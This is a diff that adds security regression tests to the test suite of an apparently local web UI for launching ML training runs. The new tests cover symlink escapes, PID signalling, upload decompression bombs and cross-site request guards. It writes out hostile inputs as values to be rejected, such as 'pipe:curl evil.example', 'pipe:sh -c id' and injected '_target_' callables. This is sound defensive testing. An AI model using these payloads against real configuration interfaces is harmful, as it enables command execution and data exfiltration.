@@ -78,6 +78,13 @@ def test_file_serving_cannot_leave_the_run_folders(ui, params):
     assert res.status_code == 404 and "error" in res.json()
 
 
+def test_a_symlinked_run_folder_is_not_listed_and_breaks_nothing(ui, tmp_path):
+    shutil.copytree(ui.outputs / "first", tmp_path / "elsewhere", symlinks=True)
+    os.symlink(tmp_path / "elsewhere", ui.outputs / "linked")
+    assert [r["id"] for r in ui.get("/api/runs").json()] == ["0/first"]
+    assert ui.get("/").status_code == 200
+
+
 def test_a_symlink_out_of_a_run_is_not_followed(ui, tmp_path):
     (tmp_path / "secret.txt").write_text("secret")
     os.symlink(tmp_path / "secret.txt", ui.outputs / "first" / "leak.txt")
@@ -100,6 +107,18 @@ def test_stop_a_finished_run_is_refused_and_a_running_one_gets_sigterm(ui):
         proc.kill()
 
 
+def test_a_run_on_another_host_or_with_a_bad_pid_is_not_signalled(ui):
+    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
+    try:
+        status = ui.outputs / "first" / "status.json"
+        for bad in ({"host": "other-node", "pid": proc.pid}, {"pid": "abc"}, {"pid": -1}, {"pid": 1}):
+            status.write_text(json.dumps({"state": "running", "host": __import__("socket").gethostname(), **bad}))
+            assert ui.post("/api/run/stop", params={"id": "0/first"}).status_code == 409, bad
+        assert proc.poll() is None  # nothing was signalled
+    finally:
+        proc.kill()
+
+
 def test_resume_and_export_queue_the_projects_own_commands(ui):
     assert ui.post("/api/run/resume", params={"id": "0/first"}).status_code == 409  # finished runs don't resume
     status = ui.outputs / "first" / "status.json"
@@ -117,9 +136,13 @@ def test_check_rejects_what_the_composer_rejects_and_plans_what_it_accepts(ui):
     assert bad.status_code == 400 and bad.json()["error"].startswith("foundry-train: trainer.max_steps")
     unknown = ui.post("/api/check", data={"extra": "no_such_group.key=1"})
     assert unknown.status_code == 400 and "\n" not in unknown.json()["error"]
-    for line in ("paths.output_dir=/", "hydra.run.dir=/tmp", "not an override", "launcher.python=/bin/sh"):
+    for line in ("paths.output_dir=/", "hydra.run.dir=/tmp", "not an override", "launcher.python=/bin/sh",
+                 "+callbacks.p._target_=shutil.copyfile", "callbacks.ema._target_=builtins.print",
+                 "logger.save_dir=/tmp/elsewhere", "data.class_dir=/tmp/x", "ckpt_path=/tmp/evil.ckpt",
+                 "data.urls=pipe:curl evil.example", "optimizer.lr=${oc.env:HOME}", "~callbacks.ema"):
         res = ui.post("/api/check", data={"extra": line})
         assert res.status_code == 400, line
+    assert ui.post("/api/check", data={"data_urls": "pipe:sh -c id"}).status_code == 400  # form fields too
     needs = ui.post("/api/check", data={"experiment": "lcm"})  # a teacher is required: the CLI's making hint
     assert needs.status_code == 400 and "method.teacher" in needs.json()["error"]
     ok = ui.post("/api/check", data={"extra": "model.preset=micro", "max_steps": "10"}).json()
@@ -135,6 +158,7 @@ def test_launch_queues_a_run_and_refuses_a_taken_name(ui):
     assert any(r["name"] == "second" and r["state"] == "queued" for r in ui.get("/api/runs").json())
     assert ui.get("/").status_code == 200 and ui.get("/partials/runs").status_code == 200  # a queued row renders
     assert ui.post("/api/launch", data={"run_name": "first"}).status_code == 409
+    assert ui.post("/api/launch", data={"run_name": "second"}).status_code == 409  # already queued
     assert ui.post("/api/launch", data={"experiment": "../../etc"}).status_code == 400
     assert ui.post("/api/launch", data={"output": "/tmp"}).status_code == 400  # only the served output folders
 
@@ -151,6 +175,10 @@ def test_uploads_check_every_file_before_writing(ui):
     assert written == ["a.png", "a.txt"] and (ui.data / "uploads" / "escape").is_dir()
     assert res.json()["job"]["steps"][0][:2] == ["foundry-shards", "folder"]
     assert ui.post("/api/upload", data={"name": "escape"}, files=files[:2]).status_code == 409
+    bomb = io.BytesIO()
+    Image.new("1", (20000, 20000)).save(bomb, format="PNG")  # 48 KB that decodes to 400 M pixels
+    res = ui.post("/api/upload", data={"name": "bomb"}, files=[("files", ("b.png", bomb.getvalue(), "image/png"))])
+    assert res.status_code == 400 and "b.png" in res.json()["error"]
 
 
 def test_wizard_validates_photos_words_and_base(ui):
@@ -204,6 +232,7 @@ def test_token_host_and_origin_guards(tmp_path, finished_run):
         assert c.get("/api/runs").status_code == 200  # the cookie now carries it
         assert c.get("/api/runs", headers={"host": "evil.example"}).status_code == 400  # DNS rebinding
         assert c.post("/api/launch", headers={"origin": "http://evil.example"}).status_code == 403
+        assert c.post("/api/launch", headers={"sec-fetch-site": "cross-site"}).status_code == 403
     with pytest.raises(SystemExit, match="set a token"):
         ui_main(["--host", "0.0.0.0", "--outputs", str(tmp_path / "o")])
 
